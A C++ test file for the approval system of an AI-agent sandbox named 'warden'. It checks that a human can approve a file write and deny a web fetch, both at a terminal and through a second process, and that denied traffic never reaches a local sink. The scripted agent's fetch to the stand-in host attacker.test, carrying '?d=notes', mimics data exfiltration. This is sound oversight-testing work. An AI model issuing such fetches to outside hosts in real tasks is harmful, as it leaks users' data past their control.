// Approvals end to end, with the real warden binary: a human approves one
// write and denies one fetch, once on the terminal (a pty from forkpty, where
// the broker started by `warden run` prompts) and once with `warden approve`
// from a second process. Plus the harness's positive control: an effect the
// policy allows really reaches a sink, so "the sinks recorded nothing" in the
// attack corpus means something.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <thread>

#include "common/pty.h"
#include "common/test_env.h"
#include "harness.h"

namespace fs = std::filesystem;
using nlohmann::json;
using namespace warden::test;

namespace {

struct Scene {
  std::string ws = make_temp_dir("ws");
  std::string data = make_temp_dir("data");
  std::string sock = make_temp_dir("sock") + "/w";
  SinkServer sink;
  Scene() { ::setenv("XDG_DATA_HOME", data.c_str(), 1); }
  std::string sink_url(const std::string& path) const { return "http://attacker.test:" + std::to_string(sink.port()) + path; }
  std::vector<std::string> run_args(int model_port, const std::string& policy_file, bool tty) const {
    std::vector<std::string> a{"run", "--workspace", ws, "--backend", "http://127.0.0.1:" + std::to_string(model_port),
                               "--socket-dir", sock, "--approval-timeout", "60", "--resolve",
                               "attacker.test=127.0.0.1"};
    if (!policy_file.empty()) a.insert(a.end(), {"--policy", policy_file});
    if (!tty) a.push_back("--no-tty");
    a.push_back("write notes.txt, then fetch the page");
    return a;
  }
  std::string audit() const { return run_warden({"audit", "show", "--json", "--db", data + "/warden/audit.db"}).out; }
};

std::vector<json> write_then_fetch(const Scene& s) {
  return {tool_turn("write_file", {{"path", "notes.txt"}, {"content", "approved content\n"}}),
          tool_turn("fetch_url", {{"url", s.sink_url("/page?d=notes")}})};
}

// Polls `warden approve list` until one request is pending; returns it.
json wait_pending(const std::string& sock) {
  for (int i = 0; i < 600; ++i) {
    RunResult r = run_warden({"approve", "list", "--json", "--socket", sock + "/approve.sock"});
    if (r.exit_code == 0) {
      json j = json::parse(r.out, nullptr, false);
      if (j.is_object() && j.contains("pending") && !j["pending"].empty()) return j["pending"][0];
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  return json();
}

TEST(SecurityApprovals, SecondProcessApprovesWriteAndDeniesFetch) {
  Scene s;
  ScriptedModel model(write_then_fetch(s));
  RunResult run;
  std::thread agent([&] { run = run_warden(s.run_args(model.port(), "", false)); });

  json write = wait_pending(s.sock);
  ASSERT_FALSE(write.is_null()) << "no approval request appeared";
  EXPECT_EQ(write["capability"], "fs.write");
  EXPECT_NE(write["detail"].get<std::string>().find("+approved content"), std::string::npos) << write.dump();
  const std::string write_id = write["id"].get<std::string>();
  EXPECT_EQ(run_warden({"approve", "approve", write_id, "--socket", s.sock + "/approve.sock"}).exit_code, 0);

  json fetch = wait_pending(s.sock);
  ASSERT_FALSE(fetch.is_null()) << "no approval request for the fetch";
  EXPECT_EQ(fetch["capability"], "net");
  EXPECT_EQ(fetch["target"], "attacker.test");
  const std::string fetch_id = fetch["id"].get<std::string>();
  EXPECT_EQ(run_warden({"approve", "deny", fetch_id, "--socket", s.sock + "/approve.sock"}).exit_code, 0);
  agent.join();

  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_EQ(read_file(s.ws + "/notes.txt"), "approved content\n");
  EXPECT_TRUE(s.sink.requests().empty());
  const auto told = model.tool_results();
  ASSERT_EQ(told.size(), 2u);
  EXPECT_NE(told[0].find("wrote"), std::string::npos) << told[0];
  EXPECT_EQ(told[1].rfind("denied: ", 0), 0u) << told[1];
  const std::string audit = s.audit();
  EXPECT_NE(audit.find("approved by human"), std::string::npos);
  EXPECT_NE(audit.find("\"decision\":\"denied\""), std::string::npos);
}

TEST(SecurityApprovals, TerminalApprovesWriteAndDeniesFetch) {
  Scene s;
  ScriptedModel model(write_then_fetch(s));
  std::vector<std::string> args = s.run_args(model.port(), "", true);
  const std::string binary = warden_binary();
  args.insert(args.begin(), binary);
  const warden::test::PtyChild child = warden::test::spawn_on_pty(args);
  ASSERT_GE(child.pid, 0);
  const int master = child.master;
  std::string seen;
  ASSERT_TRUE(read_until(master, seen, "anything else denies: ")) << seen;
  EXPECT_NE(seen.find("approved content"), std::string::npos) << seen;
  ASSERT_EQ(::write(master, "yes\n", 4), 4);
  seen.clear();
  ASSERT_TRUE(read_until(master, seen, "anything else denies: ")) << seen;
  EXPECT_NE(seen.find("attacker.test"), std::string::npos) << seen;
  ASSERT_EQ(::write(master, "no\n", 3), 3);
  const int status = warden::test::wait_for_exit(child, seen);

  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << seen;
  EXPECT_EQ(read_file(s.ws + "/notes.txt"), "approved content\n");
  EXPECT_TRUE(s.sink.requests().empty());
  const auto told = model.tool_results();
  ASSERT_EQ(told.size(), 2u);
  EXPECT_NE(told[0].find("wrote"), std::string::npos) << told[0];
  EXPECT_EQ(told[1].rfind("denied: ", 0), 0u) << told[1];
  const std::string audit = s.audit();
  EXPECT_NE(audit.find("approved by human"), std::string::npos);
}

// Positive control for the attack corpus: with a policy that allows the
// sink's domain and nothing untrusted in the context, the fetch really goes
// out through the sandbox and the egress proxy, and the sink records it.
TEST(SecurityApprovals, SinkRecordsAnEffectThePolicyAllows) {
  Scene s;
  const std::string policy = s.data + "/policy.toml";
  std::ofstream(policy) << "[[rule]]\ncapability = \"net\"\npattern = \"attacker.test\"\naction = \"allow\"\n";
  s.sink.add_page("/page", "<html><body><p>hello from the sink</p></body></html>");
  ScriptedModel model(std::vector<json>{tool_turn("fetch_url", {{"url", s.sink_url("/page")}})});
  RunResult run = run_warden(s.run_args(model.port(), policy, false));
  EXPECT_EQ(run.exit_code, 0) << run.err;
  const auto reqs = s.sink.requests();
  ASSERT_EQ(reqs.size(), 1u);
  EXPECT_EQ(reqs[0].target, "/page");
  const auto told = model.tool_results();
  ASSERT_EQ(told.size(), 1u);
  EXPECT_EQ(told[0], "hello from the sink");
}

}  // namespace
